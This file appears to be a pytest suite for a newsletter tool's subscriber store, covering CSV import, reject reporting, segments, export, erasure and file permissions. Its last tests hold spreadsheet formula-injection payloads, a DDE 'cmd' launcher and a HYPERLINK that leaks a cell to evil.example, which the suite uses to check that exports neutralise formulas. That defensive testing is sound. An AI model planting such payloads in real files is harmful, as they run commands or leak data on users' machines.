"""The subscriber store on a real SQLite file and a real PostgreSQL database: add, import, segments, export, erase,
permissions."""

from __future__ import annotations

import csv
import json
import stat

import pytest
from stores import db_columns, db_rows

pytestmark = pytest.mark.stores


@pytest.fixture
def store(settings):
    from mco_newsletter.subscribers.store import open_store

    opened = open_store(settings.store)
    yield opened
    opened.close()


def write_csv(path, text: str, *, encoding="utf-8", newline="\n"):
    path.write_bytes(text.replace("\n", newline).encode(encoding))
    return path


def emails(run, *args):
    result = run("subscribers", "list", "--json", *args)
    assert result.exit_code == 0, result.output
    return sorted(s["email"] for s in json.loads(result.stdout))


@pytest.mark.sqlite_only("the file modes of the SQLite file and its folder")
def test_database_and_folder_are_owner_only(run, settings, workspace):
    """The database file is 0600 and the private folder 0700, and the path is git-ignored."""
    assert run("subscribers", "add", "a@example.org", "--language", "en").exit_code == 0
    assert stat.S_IMODE(settings.database_path.stat().st_mode) == 0o600
    assert stat.S_IMODE(settings.database_path.parent.stat().st_mode) == 0o700
    assert settings.database_path.parent.name == "private"
    from conftest import REPO

    assert "/private/" in (REPO / ".gitignore").read_text()


@pytest.mark.sqlite_only("a path in MCO_NEWSLETTER_DB names an SQLite file")
def test_database_path_from_environment(run, workspace, tmp_path, monkeypatch):
    """MCO_NEWSLETTER_DB overrides the path in newsletter.toml."""
    target = tmp_path / "elsewhere" / "subs.db"
    monkeypatch.setenv("MCO_NEWSLETTER_DB", str(target))
    assert run("subscribers", "add", "a@example.org", "--language", "en").exit_code == 0
    assert target.is_file() and not (workspace / "private" / "subscribers.sqlite3").exists()


def test_add_normalizes_and_refuses_duplicates(run):
    """Addresses are normalized and unique whatever their case."""
    assert run("subscribers", "add", "Anna@EXAMPLE.org", "--language", "ru", "--tag", "russia").exit_code == 0
    again = run("subscribers", "add", "anna@example.ORG", "--language", "en")
    assert again.exit_code == 1 and "already subscribed" in again.stderr
    assert emails(run) == ["Anna@example.org"]
    bad = run("subscribers", "add", "not-an-address", "--language", "en")
    assert bad.exit_code == 1 and "is not a valid address" in bad.stderr
    unknown = run("subscribers", "add", "b@example.org", "--language", "fr")
    assert unknown.exit_code == 2 and "'fr' is not one of the newsletter's languages" in unknown.stderr


def test_import_reports_every_reject_reason(run, workspace):
    """Every reject reason appears with its line, in the output and in the rejects CSV."""
    path = write_csv(workspace / "people.csv", (
        "email,name,language,tags,source\n"
        "ok@example.org,Ok,en,a|b,web\n"
        "no-at-sign,X,en,,web\n"
        "x@localhost,X,en,,web\n"
        "fr@example.org,X,fr,,web\n"
        "OK@example.org,Dup,de,,web\n"
        ",Nobody,en,,web\n"
        "nolang@example.org,X,,,web\n"
        "many@example.org,X,en,,web,extra\n"
        "\n"
        "last@example.org,Last,ru,,web\n"))
    result = run("subscribers", "import", str(path))
    assert result.exit_code == 1
    expected = {
        3: "invalid address: An email address must have an @-sign.",
        4: "invalid address: ",
        5: "unknown language 'fr'",
        6: "duplicate of line 2 in this file",
        7: "no email address",
        8: "no language (give a language column or --default-language)",
        9: "6 fields but the header names 5 columns",
    }
    for line, reason in expected.items():
        assert f"people.csv:{line}: {reason}" in result.stderr, (line, result.stderr)
    assert "Ignored columns: source" in result.stderr
    rejects_file = workspace / "private" / "rejects" / "people.rejects.csv"
    with rejects_file.open(encoding="utf-8") as handle:
        rejects = list(csv.DictReader(handle))
    assert [int(r["line"]) for r in rejects] == sorted(expected)
    assert rejects[0]["email"] == "no-at-sign"
    assert emails(run) == ["last@example.org", "ok@example.org"]


def test_rejects_file_keeps_the_input_header_under_private(run, workspace, settings):
    """The rejects CSV uses the input's own header and order, and lies owner-only under private/rejects/."""
    path = write_csv(workspace / "issues" / "people.csv", (
        "Name,Language,EMAIL,Source\n"
        "Anna,en,not-an-address,web\n"
        "Bob,en,bob@example.org,web\n"
        "Cleo,xx,cleo@example.org,fair,surplus\n"))
    result = run("subscribers", "import", str(path))
    assert result.exit_code == 1
    rejects_file = settings.private_dir / "rejects" / "people.rejects.csv"
    assert "Rejected rows written to " in result.stdout and "private/rejects/people.rejects.csv" in result.stdout
    assert not (workspace / "issues" / "people.rejects.csv").exists()
    assert stat.S_IMODE(rejects_file.stat().st_mode) == 0o600
    assert stat.S_IMODE(rejects_file.parent.stat().st_mode) == 0o700
    with rejects_file.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["line", "reason", "Name", "Language", "EMAIL", "Source"]
    assert rows[1][:2] == ["2", "invalid address: An email address must have an @-sign."]
    assert rows[1][2:] == ["Anna", "en", "not-an-address", "web"]
    assert rows[2][2:] == ["Cleo", "xx", "cleo@example.org", "fair", "surplus"]
    assert emails(run) == ["bob@example.org"]


def test_rejects_file_that_cannot_be_written(run, workspace, settings):
    """When the rejects file cannot be written, nothing is imported and the message says so."""
    settings.private_dir.mkdir(mode=0o700, exist_ok=True)  # it holds the keys already with PostgreSQL
    (settings.private_dir / "rejects").write_text("a file where the folder should be")
    path = write_csv(workspace / "people.csv", "email,language\nok@example.org,en\nbad,en\n")
    result = run("subscribers", "import", str(path))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "cannot write the rejects file" in result.stderr and "nothing was imported" in result.stderr
    assert "people.csv:3: invalid address" in result.stderr
    assert emails(run) == []


@pytest.mark.parametrize("encoding,newline,delimiter", [
    ("utf-8-sig", "\r\n", ";"),
    ("utf-8", "\r\n", ","),
    ("utf-8-sig", "\n", ","),
    ("utf-8", "\n", ";"),
])
def test_import_bom_crlf_semicolon(run, workspace, encoding, newline, delimiter):
    """BOM or not, CRLF or LF, comma or semicolon: the same subscribers come in."""
    text = (f"EMAIL{delimiter}Name{delimiter}LANGUAGE{delimiter}Tags\n"
            f"анна@пример.рф{delimiter}Анна{delimiter}ru{delimiter}russia|donor\n"
            f"\"b@example.org\"{delimiter}\"Bee{delimiter} B\"{delimiter}de{delimiter}\n")
    path = write_csv(workspace / "in.csv", text, encoding=encoding, newline=newline)
    result = run("subscribers", "import", str(path))
    assert result.exit_code == 0, result.output
    shown = json.loads(run("subscribers", "show", "b@example.org", "--json").stdout)
    assert shown["name"] == f"Bee{delimiter} B"
    anna = json.loads(run("subscribers", "show", "анна@пример.рф", "--json").stdout)
    assert anna["tags"] == ["donor", "russia"] and anna["language"] == "ru" and anna["name"] == "Анна"


def test_import_twice_changes_nothing(run, workspace, settings):
    """A second import of the same file changes no row, not even a timestamp."""
    path = write_csv(workspace / "in.csv", "email,language,tags\na@example.org,en,x\nb@example.org,de,y|z\n")
    assert run("subscribers", "import", str(path)).exit_code == 0
    before = run("subscribers", "export").stdout
    second = run("subscribers", "import", str(path))
    assert "Read 2 rows: 0 imported, 2 unchanged." in second.stdout
    assert run("subscribers", "export").stdout == before


def test_import_updates_and_adds_tags(run, workspace):
    """A later file adds tags and updates language and name, never removing tags."""
    write_csv(workspace / "one.csv", "email,language,tags\na@example.org,en,x\n")
    write_csv(workspace / "two.csv", "email,name,language,tags\na@example.org,Ann,de,y\n")
    run("subscribers", "import", str(workspace / "one.csv"))
    result = run("subscribers", "import", str(workspace / "two.csv"), "--tag", "autumn")
    assert "1 updated" in result.stdout
    shown = json.loads(run("subscribers", "show", "a@example.org", "--json").stdout)
    assert shown["tags"] == ["autumn", "x", "y"] and shown["language"] == "de" and shown["name"] == "Ann"


def test_the_summary_says_what_became_of_every_row_read(run, workspace):
    """Of six rows read, two are added, one was already there, one unsubscribed earlier and two are rejected: the
    summary says so, its numbers adding up to the rows read, never "imported" for the rows that were not."""
    assert run("subscribers", "add", "old@example.org", "--language", "en").exit_code == 0
    assert run("subscribers", "add", "gone@example.org", "--language", "en").exit_code == 0
    assert run("subscribers", "unsubscribe", "gone@example.org").exit_code == 0
    path = write_csv(workspace / "in.csv", "email,language\nnew1@example.org,en\nnew2@example.org,de\n"
                     "old@example.org,en\ngone@example.org,en\nno-at-sign,en\nthird@example.org,xx\n")
    said = "2 imported (2 added), 1 unchanged, 1 left unsubscribed/bounced/complained, 2 rejected."
    dry = run("subscribers", "import", str(path), "--dry-run")
    assert f"Read 6 rows: {said.replace('imported', 'would be imported')} Nothing was changed (--dry-run)." \
        in dry.stdout.splitlines(), dry.stdout
    result = run("subscribers", "import", str(path))
    assert result.exit_code == 1 and f"Read 6 rows: {said}" in result.stdout.splitlines(), result.stdout
    assert emails(run) == ["gone@example.org", "new1@example.org", "new2@example.org", "old@example.org"]
    assert emails(run, "--status", "active") == ["new1@example.org", "new2@example.org", "old@example.org"]


def test_dry_run_changes_nothing(run, workspace):
    """--dry-run counts but writes neither subscribers nor a rejects file."""
    path = write_csv(workspace / "in.csv", "email,language\na@example.org,en\nbad,en\n")
    result = run("subscribers", "import", str(path), "--dry-run")
    assert "Read 2 rows: 1 would be imported (1 added), 1 rejected." in result.stdout
    assert emails(run) == []
    assert not (workspace / "in.rejects.csv").exists()
    assert not (workspace / "private" / "rejects").exists()


@pytest.mark.parametrize("status", ["unsubscribed", "bounced", "complained"])
def test_import_never_reactivates_without_resubscribe(run, workspace, store, status):
    """Unsubscribed, bounced or complained readers stay so, unless --resubscribe is given."""
    path = write_csv(workspace / "in.csv", "email,language\na@example.org,en\n")
    run("subscribers", "import", str(path))
    with store.transaction():
        store.set_status(store.get("a@example.org").id, status)
    result = run("subscribers", "import", str(path))
    assert "1 left unsubscribed/bounced/complained" in result.stdout
    assert json.loads(run("subscribers", "show", "a@example.org", "--json").stdout)["status"] == status
    result = run("subscribers", "import", str(path), "--resubscribe")
    assert "1 resubscribed" in result.stdout
    assert json.loads(run("subscribers", "show", "a@example.org", "--json").stdout)["status"] == "active"


def test_erased_address_is_never_re_added(run, workspace, settings, store_kind):
    """After erase only a keyed hash remains (in every table; on SQLite in the file's bytes too); an import does not
    bring the address back."""
    path = write_csv(workspace / "in.csv", "email,name,language\nsecret.person@example.org,Secret Person,ru\n")
    run("subscribers", "import", str(path))
    assert run("subscribers", "erase", "Secret.Person@example.org", "--yes").stdout.startswith("Erased.")
    result = run("subscribers", "import", str(path), "--resubscribe")
    assert "1 erased addresses not re-added" in result.stdout
    assert emails(run) == []
    held = [row for table in ("subscribers", "subscriber_tags", "erased", "mail_log", "signup_requests")
            for row in db_rows(settings, f"SELECT * FROM {table}")]
    assert len(held) == 1 and "secret" not in repr(held).lower()  # the erasure's hash alone
    if store_kind == "sqlite":  # PostgreSQL keeps dead rows until `database compact` (tests/test_erasure_files.py)
        data = settings.database_path.read_bytes()
        wal = settings.database_path.with_name(settings.database_path.name + "-wal")
        data += wal.read_bytes() if wal.exists() else b""
        assert b"secret.person" not in data.lower() and b"Secret Person" not in data
    refused = run("subscribers", "add", "secret.person@example.org", "--language", "ru")
    assert refused.exit_code == 1 and "erased at the person's request" in refused.stderr
    assert run("subscribers", "add", "secret.person@example.org", "--language", "ru", "--resubscribe").exit_code == 0


def test_export_contains_everything_held(run, workspace, store):
    """The export has one row per subscriber with every column the store holds."""
    run("subscribers", "add", "a@example.org", "--language", "de", "--tag", "t1", "--tag", "t2",
        "--name", "Ä Name", "--consent", "form on website")
    run("subscribers", "add", "b@example.org", "--language", "ru")
    run("subscribers", "unsubscribe", "b@example.org")
    out = workspace / "export.csv"
    assert run("subscribers", "export", "--out", str(out)).exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with out.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    # email_key repeats the address; nonce is a random value that binds the reader's links, nothing about them.
    columns = set(db_columns(workspace, "subscribers")) - {"email_key", "nonce"}
    assert columns | {"tags"} == set(rows[0])
    assert rows[0]["name"] == "Ä Name" and rows[0]["tags"] == "t1|t2" and rows[0]["consent_source"] == "form on website"
    assert rows[1]["status"] == "unsubscribed"


def test_segments(run, workspace):
    """Segment arithmetic: languages, tags_any, tags_all, exclude_tags, and only active readers."""
    rows = ("email,language,tags\n"
            "ru1@example.org,ru,russia\n"
            "ru2@example.org,ru,russia|donor\n"
            "de1@example.org,de,press\n"
            "de2@example.org,de,press|donor\n"
            "en1@example.org,en,partner|press\n"
            "en2@example.org,en,partner\n"
            "gone@example.org,ru,russia|donor\n")
    run("subscribers", "import", str(write_csv(workspace / "in.csv", rows)))
    run("subscribers", "unsubscribe", "gone@example.org")
    assert emails(run, "--segment", "russia") == ["ru1@example.org", "ru2@example.org"]
    assert emails(run, "--segment", "supporters") == ["en2@example.org", "ru2@example.org"]
    assert emails(run, "--segment", "german-press") == ["de1@example.org", "de2@example.org"]
    assert len(emails(run, "--segment", "all")) == 6
    counts = json.loads(run("segments", "--json").stdout)
    assert counts["all"] == {"languages": {"en": 2, "de": 2, "ru": 2}, "total": 6}
    assert counts["german-press"]["languages"] == {"en": 0, "de": 2, "ru": 0}
    unknown = run("subscribers", "list", "--segment", "nope")
    assert unknown.exit_code == 1 and "unknown segment 'nope'" in unknown.stderr and "german-press" in unknown.stderr


def test_tags_all_segment(workspace, run):
    """tags_all needs every tag; a segment naming an unknown language is a settings error."""
    with (workspace / "newsletter.toml").open("a", encoding="utf-8") as handle:
        handle.write('\n[segments.both]\ntags_all = ["a", "b"]\n')
    run("subscribers", "import", str(write_csv(workspace / "in.csv",
                                               "email,language,tags\nx@example.org,en,a|b\ny@example.org,en,a\n")))
    assert emails(run, "--segment", "both") == ["x@example.org"]
    with (workspace / "newsletter.toml").open("a", encoding="utf-8") as handle:
        handle.write('\n[segments.french]\nlanguages = ["fr"]\n')
    result = run("check")
    assert result.exit_code == 1
    assert "segment 'french' names language 'fr', which is not in languages" in result.stderr


def test_bad_csv_files(run, workspace):
    """Empty files, files without an email column and non-UTF-8 files are clear errors."""
    empty = write_csv(workspace / "empty.csv", "")
    assert "the file is empty" in run("subscribers", "import", str(empty)).stderr
    noemail = write_csv(workspace / "noemail.csv", "mail,language\na@example.org,en\n")
    result = run("subscribers", "import", str(noemail))
    assert result.exit_code == 1 and "noemail.csv:1: no 'email' column (found: mail, language)" in result.stderr
    latin = write_csv(workspace / "latin.csv", "email,name,language\na@example.org,Jürgen,de\n", encoding="latin-1")
    result = run("subscribers", "import", str(latin))
    assert result.exit_code == 1 and "latin.csv:2: not UTF-8 text" in result.stderr
    missing = run("subscribers", "import", str(workspace / "missing.csv"))
    assert missing.exit_code == 1 and "cannot read" in missing.stderr
    assert emails(run) == []


def test_recipients_match_the_segment(run, workspace, settings, store):
    """The lean recipient query of sending holds the same people as the segment listing."""
    from mco_newsletter.subscribers.segments import find_segment

    rows = "email,language,tags\n" + "".join(
        f"r{i}@example.org,{('en', 'de', 'ru')[i % 3]},{'russia' if i % 2 else 'press'}\n" for i in range(30))
    run("subscribers", "import", str(write_csv(workspace / "in.csv", rows)))
    for name in ("all", "russia", "german-press"):
        segment = find_segment(settings.segments, name)
        lean = [(r.email, r.language) for r in store.recipients(segment)]
        full = [(s.email, s.language) for s in store.subscribers(segment)]
        assert lean == full and lean


@pytest.mark.sqlite_only("a file at the database path that is not SQLite")
def test_database_that_is_not_sqlite(run, settings):
    """A garbage file at the database path is a clear error and is left as it was."""
    settings.database_path.parent.mkdir(mode=0o700)
    settings.database_path.write_bytes(b"this is not a database" * 100)
    result = run("subscribers", "list")
    assert result.exit_code == 1
    assert "cannot open the subscriber database" in result.stderr
    assert settings.database_path.read_bytes() == b"this is not a database" * 100


FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?leak="&A2,"click")', "+1+1", "-2+3",
            "@SUM(A1:A9)", "\tindented", "\rreturn"]


def test_export_neutralises_formulas(run, workspace):
    """Names, tags and consent sources that a spreadsheet would run as formulas are exported as text ('…)."""
    for number, formula in enumerate(FORMULAS):
        result = run("subscribers", "add", f"reader{number}@example.org", "--language", "en", "--name", formula,
                     "--consent", formula, "--tag", formula.strip() or "x")
        assert result.exit_code == 0, result.output
    out = workspace / "export.csv"
    assert run("subscribers", "export", "--out", str(out)).exit_code == 0
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["name"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert [row["consent_source"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert rows[0]["tags"] == "'" + FORMULAS[0]
    stdout = run("subscribers", "export").stdout
    assert "\n=" not in stdout and ",=" not in stdout and "'=cmd" in stdout


def test_rejects_file_neutralises_formulas(run, workspace, settings):
    """A rejected row's values are written to the rejects file as text, never as formulas."""
    path = write_csv(workspace / "in.csv", "email,name,language\n"
                     '=HYPERLINK("https://evil.example"),"=cmd|\' /C calc\'!A0",en\n'
                     "ok@example.org,@SUM(A1),xx\n")
    assert run("subscribers", "import", str(path)).exit_code == 1
    with (settings.private_dir / "rejects" / "in.rejects.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(A1)" in cells


@pytest.mark.parametrize("address", ["=1+1@example.org", "+1@example.org", "-2+3@example.org", "@x@example.org"])
def test_formula_addresses_are_refused(run, workspace, address):
    """An address beginning with a formula character is refused by add and by import."""
    added = run("subscribers", "add", "--language", "en", "--", address)
    assert added.exit_code == 1 and "is not a valid address" in added.stderr
    path = write_csv(workspace / "in.csv", f"email,language\n{address},en\n")
    imported = run("subscribers", "import", str(path))
    assert imported.exit_code == 1 and "in.csv:2: invalid address" in imported.stderr
    assert emails(run) == []
